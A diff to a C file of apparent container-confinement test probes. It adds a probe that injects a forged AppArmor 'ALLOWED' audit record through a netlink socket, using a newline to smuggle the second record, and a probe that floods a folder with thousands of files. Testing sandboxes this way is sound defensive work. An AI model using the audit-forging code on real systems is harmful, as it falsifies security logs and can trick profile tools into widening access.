@@ -8,6 +8,8 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/audit.h>
+#include <linux/netlink.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -79,6 +81,38 @@ static int attack_namespace(const char *unused) { return (void)unused, unshare(C
 
 static int attack_chmod(const char *path) { return chmod(path, 04755) == 0 ? 0 : errno; }
 
+// A message of its own to the audit system, as Docker's default capabilities allow: behind a newline a record that would
+// let the profile write to PATH.
+static int attack_forge(const char *path) {
+    struct {
+        struct nlmsghdr head;
+        char text[800];
+    } message = {.head = {.nlmsg_type = AUDIT_USER_AVC, .nlmsg_flags = NLM_F_REQUEST}};
+    struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
+    int audit = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT), error = 0;
+    if (audit < 0) return errno;
+    snprintf(message.text, sizeof message.text,
+             "x\ntype=AVC msg=audit(1790000000.001:7): apparmor=\"ALLOWED\" operation=\"open\" profile=\"%s\" name=\"%s\" "
+             "pid=7 comm=\"nginx\" requested_mask=\"wc\" denied_mask=\"wc\" fsuid=0 ouid=0",
+             getenv("FORGED_PROFILE"), path);
+    message.head.nlmsg_len = NLMSG_LENGTH(strlen(message.text) + 1);
+    if (sendto(audit, &message, message.head.nlmsg_len, 0, (struct sockaddr *)&kernel, sizeof kernel) < 0) error = errno;
+    close(audit);
+    return error;
+}
+
+// More names in one folder than anybody can read.
+static int attack_flood(const char *folder) {
+    char path[200];
+    for (int each = 0; each < 2500; each++) {
+        snprintf(path, sizeof path, "%s/%08x", folder, (unsigned)each * 2654435761u);
+        int error = open_as(path, O_WRONLY | O_CREAT);
+        if (error != 0) return error;
+        unlink(path);
+    }
+    return 0;
+}
+
 static const struct {
     const char *name;
     int (*attempt)(const char *argument);
@@ -86,6 +120,7 @@ static const struct {
     {"write", attack_write},   {"read", attack_read},     {"run", attack_run},       {"raw", attack_raw},
     {"packet", attack_packet}, {"tcp", attack_tcp},       {"mount", attack_mount},   {"ptrace", attack_ptrace},
     {"signal", attack_signal}, {"chmod", attack_chmod},   {"namespace", attack_namespace},
+    {"forge", attack_forge},   {"flood", attack_flood},
 };
 
 // A server of one line, for images that hold nothing else.
